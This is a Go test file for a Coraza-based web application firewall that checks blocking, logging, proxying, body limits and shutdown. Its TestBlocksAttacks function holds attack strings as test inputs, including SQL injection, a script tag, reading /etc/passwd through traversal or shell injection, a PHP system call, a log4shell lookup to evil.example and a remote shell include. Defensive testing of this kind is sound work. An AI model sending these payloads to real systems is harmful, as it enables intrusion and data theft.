package waf

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/corazawaf/coraza/v3"

	"stackctl.dev/stackctl/internal/server/tier"
	"stackctl.dev/stackctl/internal/server/tier/tiertest"
)

var plain = []string{"User-Agent", "curl/8.5.0", "Accept", "*/*"}

func TestBlocksAttacks(t *testing.T) {
	s := startSite(t, http.HandlerFunc(hello))
	for name, path := range map[string]string{
		"sql injection":  "/?id=1%27%20OR%20%271%27=%271%27%20--%20",
		"script":         "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
		"path":           "/?file=../../../../etc/passwd",
		"shell":          "/?cmd=;cat%20/etc/passwd",
		"php":            "/?x=%3C?php%20system(%27id%27);",
		"log4shell":      "/?x=$%7Bjndi:ldap://evil.example/a%7D",
		"dot file":       "/.git/config",
		"remote include": "/?page=http://192.0.2.1/shell.txt?",
	} {
		if a := s.get(path, plain...); a.Status != http.StatusForbidden || !strings.Contains(a.Body, "was blocked") {
			t.Errorf("%s: got %d %q", name, a.Status, a.Body)
		}
	}
	if a := s.request(http.MethodPost, "/", "q=<script>alert(1)</script>", append(plain, "Content-Type", "application/x-www-form-urlencoded")...); a.Status != http.StatusForbidden {
		t.Errorf("script in a body: got %d", a.Status)
	}
	if a := s.get("/", "User-Agent", "sqlmap/1.7", "Accept", "*/*"); a.Status != http.StatusForbidden {
		t.Errorf("scanner: got %d", a.Status)
	}
}

func TestDetectPassesOn(t *testing.T) {
	s := startSite(t, http.HandlerFunc(hello), "WAF_MODE", "detect")
	if a := s.get("/?q=%3Cscript%3Ealert(1)%3C/script%3E", plain...); a.Status != http.StatusOK || a.Body != "Hello!" {
		t.Errorf("got %d %q", a.Status, a.Body)
	}
	tiertest.WaitFor(t, "the line", func() bool { return len(s.log.Lines(t, "attack")) == 1 })
	if line := s.log.Lines(t, "attack")[0]; line["verdict"] != verdictDetected || line["score"].(float64) < 5 {
		t.Errorf("got %v", line)
	}
}

// TestBlockedIsSeen: in the log, on one line with what matched, and in /metrics.
func TestBlockedIsSeen(t *testing.T) {
	s := startSite(t, http.HandlerFunc(hello))
	header := append(slices.Clone(plain), "X-Request-Id", "seen-1", "X-Real-Ip", "2001:db8::7")
	a := s.get("/page?q=%3Cscript%3Ealert(1)%3C/script%3E%1b%5b31m%e2%80%ae"+strings.Repeat("a", 300), header...)
	if a.Status != http.StatusForbidden || a.Header.Get("X-Request-Id") != "seen-1" || !strings.Contains(a.Body, "seen-1") {
		t.Errorf("got %d %v %q", a.Status, a.Header, a.Body)
	}
	tiertest.WaitFor(t, "the lines", func() bool { return len(s.log.Lines(t, "request")) == 1 })
	line := s.log.Lines(t, "attack")[0]
	matched, _ := line["matched"].(string)
	if line["verdict"] != "blocked" || line["request_id"] != "seen-1" || line["client"] != "2001:db8::7" || line["level"] != "WARN" ||
		line["rule"].(float64) < 920000 || line["rule_msg"] == "" || line["score"].(float64) < 5 || line["duration_ms"].(float64) <= 0 {
		t.Errorf("the line is %v", line)
	}
	if !strings.HasPrefix(matched, "ARGS:q: ") && !strings.Contains(matched, "script") || len(matched) > maxMatched+3 || strings.ContainsAny(matched, "\x1b\u202e") {
		t.Errorf("it matched %q", matched)
	}
	if access := s.log.Lines(t, "request")[0]; access["status"].(float64) != 403 || access["verdict"] != "blocked" || access["path"] != "/page" ||
		access["request_id"] != "seen-1" || access["waf_ms"].(float64) <= 0 {
		t.Errorf("the access line is %v", access)
	}
	for _, want := range []string{
		`stackctl_waf_request_duration_seconds_count{verdict="blocked"} 1`, `stackctl_waf_rules_matched_total{attack="xss"}`,
		"stackctl_waf_inspection_seconds_count 1", "stackctl_build_info",
	} {
		if text := fetch(t, "http://"+s.server.MetricsAddr()+"/metrics"); !strings.Contains(text, want) {
			t.Errorf("/metrics lacks %s", want)
		}
	}
}

// TestSecretsStayOut: a cookie or a password that a rule matched is not in the log.
func TestSecretsStayOut(t *testing.T) {
	s := startSite(t, http.HandlerFunc(hello))
	_ = s.get("/?password=%3Cscript%3Ehunter2%3C/script%3E", append(plain, "Cookie", "session=<script>hunter2</script>")...)
	tiertest.WaitFor(t, "the line", func() bool { return len(s.log.Lines(t, "request")) == 1 })
	if len(s.log.Lines(t, "attack")) != 1 || strings.Contains(s.log.String(), "hunter2") {
		t.Errorf("the log is %s", s.log.String())
	}
}

func TestWebsOwnAnswers(t *testing.T) {
	web := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodGet {
			w.Header().Set("Allow", "GET")
			w.WriteHeader(http.StatusMethodNotAllowed)
			return
		}
		hello(w, r)
	})
	s := startSite(t, web)
	for _, method := range []string{http.MethodPut, http.MethodPatch, http.MethodDelete, http.MethodPost, http.MethodHead, http.MethodOptions} {
		if a := s.request(method, "/count", "", plain...); a.Status != http.StatusMethodNotAllowed || a.Header.Get("Allow") != "GET" {
			t.Errorf("%s got %d", method, a.Status)
		}
	}
	_, port, _ := net.SplitHostPort(s.server.Addr())
	for _, host := range []string{"127.0.0.1:" + port, "127.0.0.1", "[::1]:5002", "localhost:5002", "example.org"} {
		a := s.get("/count", append(plain, "Host", host, "X-Request-Id", "host-"+strings.Trim(host, "[]:."))...)
		if a.Status != http.StatusOK {
			t.Errorf("Host %s got %d", host, a.Status)
		}
	}
	if lines := s.log.Lines(t, "attack"); len(lines) != 0 {
		t.Errorf("rules matched: %v", lines)
	}
	_ = s.get("/count", append(plain, "Host", "192.0.2.7")...)
	tiertest.WaitFor(t, "the line on a numeric host", func() bool { return len(s.log.Lines(t, "attack")) == 1 })
	if line := s.log.Lines(t, "attack")[0]; line["rule"].(float64) != 920350 || line["verdict"] != verdictDetected {
		t.Errorf("got %v", line)
	}
}

// TestPassesUnchanged: what nginx set arrives as it was set, in both directions, and so does the query.
func TestPassesUnchanged(t *testing.T) {
	got := make(chan *http.Request, 1)
	s := startSite(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got <- r
		w.Header().Set("X-Request-Id", r.Header.Get("X-Request-Id"))
		w.Header().Add("Set-Cookie", "a=1")
		w.Header().Add("Set-Cookie", "b=2")
		w.WriteHeader(http.StatusTeapot)
	}))
	a := s.get("/a%2Fb?x=1;y=2&z", "User-Agent", "curl/8.5.0", "Accept", "*/*", "Host", "example.org:8443", "X-Request-Id", "keep.me",
		"X-Real-Ip", "198.51.100.4", "X-Forwarded-For", "203.0.113.1, 198.51.100.4", "X-Forwarded-Host", "example.org:8443",
		"X-Forwarded-Proto", "https", "Connection", "X-Hop", "X-Hop", "1")
	r := <-got
	for name, want := range map[string]string{"X-Request-Id": "keep.me", "X-Real-Ip": "198.51.100.4", "X-Forwarded-For": "203.0.113.1, 198.51.100.4",
		"X-Forwarded-Host": "example.org:8443", "X-Forwarded-Proto": "https", "X-Hop": "", "Connection": "close", "Transfer-Encoding": "", "Accept-Encoding": ""} {
		if value := strings.Join(r.Header.Values(name), "|"); value != want {
			t.Errorf("%s is %q, want %q", name, value, want)
		}
	}
	if r.Host != "example.org:8443" || r.RequestURI != "/a%2Fb?x=1;y=2&z" || r.ContentLength != 0 {
		t.Errorf("host %q, uri %q, length %d", r.Host, r.RequestURI, r.ContentLength)
	}
	if a.Status != http.StatusTeapot || len(a.Header.Values("Set-Cookie")) != 2 || strings.Join(a.Header.Values("X-Request-Id"), "|") != "keep.me" {
		t.Errorf("the response is %d %v", a.Status, a.Header)
	}
	s.get("/", plain...)
	if r := <-got; len(r.Header.Get("X-Request-Id")) != 32 {
		t.Errorf("a request without an id got %q", r.Header.Get("X-Request-Id"))
	}
}

// TestEventsPassAtOnce: each event arrives before the next is sent, also after the deadlines of short requests.
func TestEventsPassAtOnce(t *testing.T) {
	next := make(chan struct{})
	s := startSite(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		for i := range 3 {
			fmt.Fprintf(w, "data: %d\n\n", i)
			_ = http.NewResponseController(w).Flush()
			select {
			case <-next:
			case <-r.Context().Done():
			}
		}
	}))
	s.client.Timeout = 5 * time.Second
	req, _ := http.NewRequestWithContext(t.Context(), http.MethodGet, "http://"+s.server.Addr()+"/events", nil)
	req.Header.Set("Accept", "text/event-stream")
	req.Header.Set("User-Agent", "Mozilla/5.0")
	resp, err := s.client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	lines := bufio.NewScanner(resp.Body)
	for i := range 3 {
		for lines.Scan() && lines.Text() == "" {
		}
		if want := fmt.Sprintf("data: %d", i); lines.Text() != want {
			t.Fatalf("got %q, want %q", lines.Text(), want)
		}
		next <- struct{}{}
	}
}

func TestBodies(t *testing.T) {
	got := make(chan string, 1)
	s := startSite(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		content, _ := io.ReadAll(r.Body)
		got <- string(content)
	}))
	typed := append(slices.Clone(plain), "Content-Type", "application/x-www-form-urlencoded")
	for _, n := range []int{1, 1000, 60 << 10} {
		want := "a=" + strings.Repeat("b", n)
		if n > 1000 {
			want = "a=" + strings.Repeat("1", maxBody-2)
		}
		if a := s.request(http.MethodPost, "/", want, typed...); a.Status != http.StatusOK {
			t.Fatalf("%d bytes got %d: %s", len(want), a.Status, a.Body)
		} else if text := <-got; text != want {
			t.Errorf("%d bytes arrived as %d", len(want), len(text))
		}
	}
	long := strings.Repeat("a", maxBody+1)
	if a := s.request(http.MethodPost, "/", long, typed...); a.Status != http.StatusRequestEntityTooLarge {
		t.Errorf("a long body got %d", a.Status)
	}
	req, _ := http.NewRequestWithContext(t.Context(), http.MethodPost, "http://"+s.server.Addr()+"/", io.MultiReader(strings.NewReader(long))) // chunked
	resp, err := s.client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusRequestEntityTooLarge {
		t.Errorf("a long body in chunks got %d", resp.StatusCode)
	}
	if a := s.request(http.MethodPost, "/", `{"a":`, append(plain, "Content-Type", "application/json")...); a.Status != http.StatusBadRequest {
		t.Errorf("broken JSON got %d", a.Status)
	}
}

// panics is a rule set that panics.
type panics struct{ coraza.WAF }

// TestAnErrorOfItsOwnIs503, and never an empty 200; the process lives.
func TestAnErrorOfItsOwnIs503(t *testing.T) {
	s := startSite(t, http.HandlerFunc(hello))
	s.server.http.Handler.(*gate).rules = &rules{panics{}}
	if a := s.get("/", plain...); a.Status != http.StatusServiceUnavailable || a.Body != "Service Unavailable\n" || a.Header.Get("X-Request-Id") == "" {
		t.Errorf("got %d %q", a.Status, a.Body)
	}
	if lines := s.log.Lines(t, "cannot inspect"); len(lines) != 1 || !strings.Contains(lines[0]["error"].(string), "the rules panicked") {
		t.Errorf("the log says %v", lines)
	}
}

func TestUpstreamAway(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ln.Close()
	s := startBefore(t, ln.Addr().String())
	if a := s.get("/", plain...); a.Status != http.StatusBadGateway || a.Body != "Bad Gateway\n" {
		t.Errorf("got %d %q", a.Status, a.Body)
	}
	late := startSite(t, http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { <-r.Context().Done() }), "UPSTREAM_TIMEOUT", "100ms")
	if a := late.get("/", plain...); a.Status != http.StatusGatewayTimeout {
		t.Errorf("a late one got %d", a.Status)
	}
}

// TestUpgrades: the protocol is switched, and both directions pass.
func TestUpgrades(t *testing.T) {
	s := startSite(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Upgrade") != "echo" || !strings.EqualFold(r.Header.Get("Connection"), "upgrade") {
			t.Errorf("the upstream got %v", r.Header)
		}
		conn, rw, err := http.NewResponseController(w).Hijack()
		if err != nil {
			t.Error(err)
			return
		}
		defer conn.Close()
		_, _ = rw.WriteString("HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: echo\r\n\r\n")
		_ = rw.Flush()
		line, _ := rw.ReadString('\n')
		_, _ = rw.WriteString("echo " + line)
		_ = rw.Flush()
	}))
	conn, err := net.Dial("tcp", s.server.Addr())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
	fmt.Fprint(conn, "GET /socket HTTP/1.1\r\nHost: localhost\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nConnection: Upgrade\r\nUpgrade: echo\r\n\r\n")
	r := bufio.NewReader(conn)
	resp, err := http.ReadResponse(r, nil)
	if err != nil || resp.StatusCode != http.StatusSwitchingProtocols {
		t.Fatalf("got %v, %v", resp, err)
	}
	fmt.Fprint(conn, "hi\n")
	if line, _ := r.ReadString('\n'); line != "echo hi\n" {
		t.Errorf("got %q", line)
	}
}

// TestResponses: one that shows the server's secrets is not passed on; WAF_RESPONSES=pass does not look.
func TestResponses(t *testing.T) {
	leak := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("X-Leak", "1")
		_, _ = io.WriteString(w, "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax")
	})
	if a := startSite(t, leak).get("/", plain...); a.Status != http.StatusForbidden || a.Header.Get("X-Leak") != "" {
		t.Errorf("a leak got %d %v", a.Status, a.Header)
	}
	if a := startSite(t, leak, "WAF_RESPONSES", "pass").get("/", plain...); a.Status != http.StatusOK || !strings.Contains(a.Body, "SQL syntax") {
		t.Errorf("passed, it got %d", a.Status)
	}
}

func TestExclusions(t *testing.T) {
	attack := "/?q=%3Cscript%3Ealert(1)%3C/script%3E"
	file := filepath.Join(t.TempDir(), "exclusions.conf")
	write := func(text string) {
		t.Helper()
		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write("# the editor's field may contain HTML\nSecRule REQUEST_FILENAME \"@streq /edit\" \\\n  \"id:1,phase:1,pass,nolog,ctl:ruleRemoveTargetByTag=attack-xss;ARGS:q\"\n" +
		"SecRuleRemoveById 930130\n")
	s := startSite(t, http.HandlerFunc(hello), "WAF_EXCLUSIONS", file)
	for path, want := range map[string]int{attack: 403, "/edit" + attack[1:]: 200, "/.git/config": 200} {
		if a := s.get(path, plain...); a.Status != want {
			t.Errorf("%s got %d, want %d", path, a.Status, want)
		}
	}
	write("SecRule nonsense\n")
	if _, err := New(configFor(t, "127.0.0.1:1", "WAF_EXCLUSIONS", file), io.Discard); err == nil || !strings.Contains(err.Error(), file) {
		t.Errorf("nonsense: %v", err)
	}
	if _, err := New(configFor(t, "127.0.0.1:1", "WAF_EXCLUSIONS", file+".no"), io.Discard); err == nil || !strings.Contains(err.Error(), "WAF_EXCLUSIONS") {
		t.Errorf("no file: %v", err)
	}
	write(strings.Repeat("#", maxExclusions+1))
	if _, err := New(configFor(t, "127.0.0.1:1", "WAF_EXCLUSIONS", file), io.Discard); err == nil || !strings.Contains(err.Error(), "longer than") {
		t.Errorf("a long file: %v", err)
	}
}

// TestDrain: requests in flight are answered after the signal, and new ones are not accepted.
func TestDrain(t *testing.T) {
	begun, end := make(chan struct{}), make(chan struct{})
	s := startSite(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		close(begun)
		<-end
		hello(w, r)
	}))
	addr := s.server.Addr()
	var wg sync.WaitGroup
	wg.Go(func() {
		if a, err := s.do(http.MethodGet, "/", "", plain...); err != nil || a.Status != http.StatusOK {
			t.Errorf("the request in flight got %v, %v", a, err)
		}
	})
	<-begun
	wg.Go(func() {
		if err := s.stop(); err != nil {
			t.Error(err)
		}
	})
	tiertest.WaitFor(t, "the listener to close", func() bool {
		conn, err := net.Dial("tcp", addr)
		if err == nil {
			conn.Close()
		}
		return err != nil
	})
	close(end)
	wg.Wait()
}

func TestDrainHasADeadline(t *testing.T) {
	begun := make(chan struct{})
	s := startSite(t, http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		close(begun)
		<-r.Context().Done()
	}), "SHUTDOWN_TIMEOUT", "50ms")
	var wg sync.WaitGroup
	wg.Go(func() { _, _ = s.do(http.MethodGet, "/", "", plain...) })
	<-begun
	if err := s.stop(); err == nil || !strings.Contains(err.Error(), "draining 1 requests") {
		t.Errorf("got %v", err)
	}
	wg.Wait()
}

func TestHealthz(t *testing.T) {
	s := startSite(t, http.HandlerFunc(hello))
	if err := tier.Check(t.Context(), s.server.MetricsAddr(), "/healthz"); err != nil {
		t.Error(err)
	}
	if a := s.get("/healthz", plain...); a.Body != "Hello!" {
		t.Errorf("the upstream's own /healthz got %q", a.Body)
	}
	if err := s.stop(); err != nil {
		t.Error(err)
	}
	if err := tier.Check(t.Context(), s.server.MetricsAddr(), "/healthz"); err == nil {
		t.Error("it is ready after its end")
	}
}

// TestBusy: inspections are bounded; who waits too long gets a 503.
func TestBusy(t *testing.T) {
	s := startSite(t, http.HandlerFunc(hello), "WAF_CONCURRENCY", "1")
	g := s.server.http.Handler.(*gate)
	g.slots <- struct{}{}
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Millisecond)
	defer cancel()
	if _, err := g.enter(ctx); err == nil || !strings.Contains(err.Error(), "WAF_CONCURRENCY") {
		t.Errorf("got %v", err)
	}
	<-g.slots
	if a := s.get("/", plain...); a.Status != http.StatusOK {
		t.Errorf("got %d", a.Status)
	}
}

func TestConfigFromEnv(t *testing.T) {
	cfg, err := ConfigFromEnv(tiertest.Env())
	if err != nil || cfg.ListenAddr != ":5003" || cfg.MetricsAddr != ":9102" || cfg.Upstream != "nginx:5004" || cfg.Mode != ModeBlock || cfg.Paranoia != 1 || !cfg.Responses {
		t.Errorf("the defaults are %+v, %v", cfg, err)
	}
	_, err = ConfigFromEnv(tiertest.Env("WAF_MODE", "off", "WAF_PARANOIA", "5", "WAF_UPSTREAM", "http://web:1", "WAF_RESPONSES", "1",
		"WAF_CONCURRENCY", "0", "UPSTREAM_TIMEOUT", "1h", "SHUTDOWN_TIMEOUT", "x", "LISTEN_ADDR", "1", "METRICS_ADDR", "off", "LOG_LEVEL", "x"))
	if err == nil || strings.Count(err.Error(), "\n") != 9 {
		t.Errorf("got %v", err)
	}
}

func TestListenTellsTheVariable(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	cfg := configFor(t, "127.0.0.1:1")
	cfg.ListenAddr = ln.Addr().String()
	if err := Run(t.Context(), cfg, &bytes.Buffer{}); err == nil || !strings.Contains(err.Error(), "LISTEN_ADDR") {
		t.Errorf("got %v", err)
	}
}

func fetch(t testing.TB, url string) string {
	t.Helper()
	client := &http.Client{Transport: &http.Transport{DisableKeepAlives: true}, Timeout: 5 * time.Second}
	resp, err := client.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	content, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return string(content)
}
